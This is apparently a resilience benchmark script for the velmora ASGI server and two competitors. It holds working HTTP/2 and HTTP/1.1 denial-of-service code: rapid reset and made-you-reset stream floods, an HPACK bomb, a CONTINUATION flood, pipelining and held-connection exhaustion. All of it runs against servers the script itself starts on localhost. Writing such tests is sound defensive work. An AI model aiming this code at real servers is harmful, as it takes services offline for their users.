"""Attacks from the wire at full size against `velmora serve` (and hypercorn and granian when
installed), each judged held or failed: a fresh request must be answered within 1 s during and
after the attack, the server process must stay alive, and its memory bounded.

    python bench/attacks.py [--servers velmora,hypercorn,granian] [--only NAME,...]

Every server runs the same ASGI application (tests/support/h2wire.py: /seen lists the paths
of every request so far, which tells how often the application ran). The attacks:

- pipelining: one connection (receive buffer 4 KiB) writes GET requests for 20 s and never
  reads; held when RSS grew less than 64 MiB.
- held_connections: 4,000 connections each re-send a GET every 2 s for 12 s (inside the 5 s
  keep-alive), at the connection limit 4,000; held when every probe was answered.
- rapid_reset: HEADERS then RST_STREAM(CANCEL) on 100,000 streams; held when the application
  ran at most 1,000 times.
- made_you_reset: 100,000 requests declaring one byte of body and sending two; held as above.
- hpack_bomb: 200 header blocks of 16 KiB that decode to 48 MiB each, our SETTINGS never
  acknowledged; held when the probes were answered.
- continuation_flood: 40 connections send CONTINUATION frames of 16 KiB (1,280 each at most),
  SETTINGS never acknowledged; held when RSS grew less than 64 MiB.
"""

from __future__ import annotations

import argparse
import os
import shutil
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path
from typing import Any, Callable

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "tests" / "support"))

from h2wire import (  # noqa: E402
    APP, DATA, HEADERS, PREFACE, RST_STREAM, SETTINGS, Wire, frame, free_port,
)

GET = b"GET / HTTP/1.1\r\nHost: a\r\n\r\n"
CONTINUATION = 9


class Server:
    def __init__(self, name: str, directory: str) -> None:
        self.name = name
        self.port = free_port()
        py = sys.executable
        cmds = {
            "velmora": [py, "-m", "velmora", "serve", "wireapp:app", "--port", str(self.port),
                        "--no-access-log", "--lifespan", "off", "--log-level", "critical",
                        "--limit-max-connections", "4000"],
            "hypercorn": [py, "-m", "hypercorn", "wireapp:app", "--bind",
                          f"127.0.0.1:{self.port}", "--log-level", "critical"],
            "granian": [py, "-m", "granian", "--interface", "asgi", "--port", str(self.port),
                        "--http", "auto", "--log-level", "critical", "--no-ws", "wireapp:app"],
        }
        env = dict(os.environ, PYTHONPATH=os.pathsep.join([directory] + sys.path[1:]))
        self.proc = subprocess.Popen(cmds[name], cwd=directory, env=env,
                                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        deadline = time.monotonic() + 30
        while not self.answers(2.0):
            if self.proc.poll() is not None or time.monotonic() > deadline:
                raise RuntimeError(f"{name} did not start")
            time.sleep(0.2)

    def answers(self, timeout: float = 1.0) -> bool:
        return self.status(timeout) != 0

    def status(self, timeout: float = 1.0) -> int:
        """The status of a fresh request's complete response within ``timeout``; 0: none."""
        t0 = time.monotonic()
        try:
            with socket.create_connection(("127.0.0.1", self.port), timeout=timeout) as s:
                s.sendall(GET)
                reply = b""
                while b"\r\n\r\n" not in reply:
                    s.settimeout(max(0.01, timeout - (time.monotonic() - t0)))
                    chunk = s.recv(4096)
                    if not chunk:
                        return 0
                    reply += chunk
        except OSError:
            return 0
        if time.monotonic() - t0 >= timeout or not reply.startswith(b"HTTP/1.1 "):
            return 0
        return int(reply[9:12])

    def rss_mib(self) -> float:
        total = 0
        pids = [self.proc.pid]
        try:  # (granian serves from child processes)
            out = subprocess.run(["pgrep", "-P", str(self.proc.pid)], capture_output=True,
                                 text=True).stdout.split()
            pids += [int(p) for p in out]
        except OSError:
            pass
        for pid in pids:
            try:
                with open(f"/proc/{pid}/status") as f:
                    total += next(int(x.split()[1]) for x in f if x.startswith("VmRSS:"))
            except (OSError, StopIteration):
                pass
        return total / 1024

    def alive(self) -> bool:
        return self.proc.poll() is None

    def runs(self, path: str) -> int:
        with socket.create_connection(("127.0.0.1", self.port), timeout=60) as s:
            s.sendall(b"GET /seen HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n")
            data = b""
            while chunk := s.recv(1 << 20):
                data += chunk
        return data.split(b"\r\n\r\n", 1)[-1].split(b"\n").count(path.encode())

    def stop(self) -> None:
        self.proc.terminate()
        try:
            self.proc.wait(10)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            self.proc.wait()


class Prober(threading.Thread):
    """Probes the server every `every` seconds while the attack runs."""

    def __init__(self, server: Server, every: float = 0.5) -> None:
        super().__init__(daemon=True)
        self.server, self.every = server, every
        self.results: list[bool] = []
        self.done = threading.Event()

    def run(self) -> None:
        while not self.done.wait(self.every):
            self.results.append(self.server.answers(1.0))

    def finish(self) -> bool:
        self.done.set()
        self.join()
        return all(self.results)


def h2_conn(server: Server, ack: bool = True) -> Wire:
    w = Wire(socket.create_connection(("127.0.0.1", server.port), timeout=10), ack=ack)
    if ack:
        w.handshake()
    else:
        w.send(PREFACE + frame(SETTINGS, 0, 0, b""))
    return w


def send_quietly(w: Wire, data: bytes) -> bool:
    try:
        w.sock.sendall(data)
        return True
    except OSError:
        return False


# ---- the attacks: each returns (held, detail) ----------------------------------------------


def pipelining(server: Server, seconds: float = 20.0) -> tuple[bool, str]:
    base = server.rss_mib()
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    s.connect(("127.0.0.1", server.port))
    s.setblocking(False)
    burst, sent, t0 = GET * 4000, 0, time.monotonic()
    while time.monotonic() - t0 < seconds:
        try:
            sent += s.send(burst)
        except BlockingIOError:
            time.sleep(0.005)
        except OSError:
            break
    grew = server.rss_mib() - base
    s.close()
    return grew < 64, f"{sent // len(GET)} requests written, RSS +{grew:.1f} MiB"


def held_connections(server: Server, count: int = 4000, seconds: float = 12.0) -> tuple[bool, str]:
    socks = []
    for _ in range(count):
        try:
            s = socket.create_connection(("127.0.0.1", server.port), timeout=5)
            s.setblocking(False)
            socks.append(s)
        except OSError:
            break
    stop = threading.Event()

    def resend() -> None:
        while not stop.is_set():
            for s in socks:
                try:
                    s.send(GET)
                    s.recv(65536)
                except OSError:
                    pass
            stop.wait(2.0)

    t = threading.Thread(target=resend, daemon=True)
    t.start()
    time.sleep(2.5)
    probes = []
    t0 = time.monotonic()
    while time.monotonic() - t0 < seconds:
        probes.append(server.status(1.0))
        time.sleep(0.5)
    stop.set()
    t.join()
    for s in socks:
        s.close()
    seen = {code: probes.count(code) for code in sorted(set(probes))}
    return all(probes), f"{len(socks)} held; probe statuses (0: none in 1 s) {seen}"


def _stream_flood(server: Server, make: Callable[[Wire, int], bytes], path: str,
                  streams: int = 100_000) -> tuple[bool, str]:
    w = h2_conn(server)
    sent = 0
    for first in range(1, 2 * streams, 2000):
        if not send_quietly(w, b"".join(make(w, sid) for sid in range(first, first + 2000, 2))):
            break
        sent = min(streams, (first + 1999) // 2 + 1)
    try:
        w.until(lambda: w.goaway() is not None, timeout=3.0)
    except (AssertionError, OSError):
        pass
    w.close()
    time.sleep(1.0)
    runs = server.runs(path)
    goaway = w.goaway()
    return runs <= 1000, f"app ran {runs} times; {sent} streams sent; GOAWAY {goaway}"


def rapid_reset(server: Server) -> tuple[bool, str]:
    return _stream_flood(server, lambda w, sid: w.headers(sid, "/a") + frame(
        RST_STREAM, 0, sid, struct.pack(">I", 8)), "/a")


def made_you_reset(server: Server) -> tuple[bool, str]:
    return _stream_flood(server, lambda w, sid: w.headers(
        sid, "/m", [("content-length", "1")], end_stream=False) + frame(DATA, 1, sid, b"ab"), "/m")


def hpack_bomb(server: Server, blocks: int = 200) -> tuple[bool, str]:
    w = h2_conn(server, ack=False)
    w.send(frame(HEADERS, 4, 1, w.enc.encode([(":method", "GET"), (":scheme", "http"),
                                               (":authority", "t"), (":path", "/b"),
                                               ("x-bomb", "a" * 4000)])))
    sent = 0
    for i in range(blocks):
        sid = 3 + 2 * i
        block = w.enc.encode([(":method", "GET"), (":scheme", "http"), (":authority", "t"),
                              (":path", "/b")])
        block += b"\xbe" * (16384 - len(block))  # the 4 KiB field, over and over
        if not send_quietly(w, frame(HEADERS, 5, sid, block)):
            break
        sent += 1
    w.close()
    return True, f"{sent} bomb blocks sent"


def continuation_flood(server: Server, conns: int = 40) -> tuple[bool, str]:
    base = server.rss_mib()
    ws = []
    for _ in range(conns):
        w = h2_conn(server, ack=False)
        send_quietly(w, frame(HEADERS, 0, 1, w.headers(1, "/c")[9:]))
        ws.append(w)
    peak = 0.0
    piece = frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 3276)
    for _ in range(1280 // 16):
        for w in ws:
            send_quietly(w, piece * 16)
        peak = max(peak, server.rss_mib() - base)
    for w in ws:
        w.close()
    return peak < 64, f"RSS peak +{peak:.1f} MiB"


ATTACKS: dict[str, Callable[[Server], tuple[bool, str]]] = {
    "pipelining": pipelining,
    "held_connections": held_connections,
    "rapid_reset": rapid_reset,
    "made_you_reset": made_you_reset,
    "hpack_bomb": hpack_bomb,
    "continuation_flood": continuation_flood,
}


def main() -> None:
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    p.add_argument("--servers", default="velmora,hypercorn,granian")
    p.add_argument("--only", default=",".join(ATTACKS))
    args = p.parse_args()
    rows: list[tuple[str, str, str, str]] = []
    for name in args.servers.split(","):
        if name != "velmora" and shutil.which(name) is None:
            print(f"{name}: not installed, skipped")
            continue
        for attack in args.only.split(","):
            directory = tempfile.mkdtemp()
            Path(directory, "wireapp.py").write_text(APP)
            server = Server(name, directory)
            try:
                prober = Prober(server)
                prober.start()
                try:
                    held, detail = ATTACKS[attack](server)
                except Exception as exc:  # noqa: BLE001  (the attack itself broke)
                    held, detail = False, f"attack error: {exc!r}"
                during = prober.finish()
                after = server.answers(1.0) and server.alive()
                verdict = "held" if held and during and after else "FAILED"
                extra = "" if during else "; a probe went unanswered"
                rows.append((name, attack, verdict, detail + extra))
                print(f"{name:10} {attack:20} {verdict:7} {detail}{extra}", flush=True)
            finally:
                server.stop()
    print()
    for name in dict.fromkeys(r[0] for r in rows):
        mine = [r for r in rows if r[0] == name]
        print(f"{name}: held {sum(r[2] == 'held' for r in mine)} of {len(mine)}")


if __name__ == "__main__":
    main()
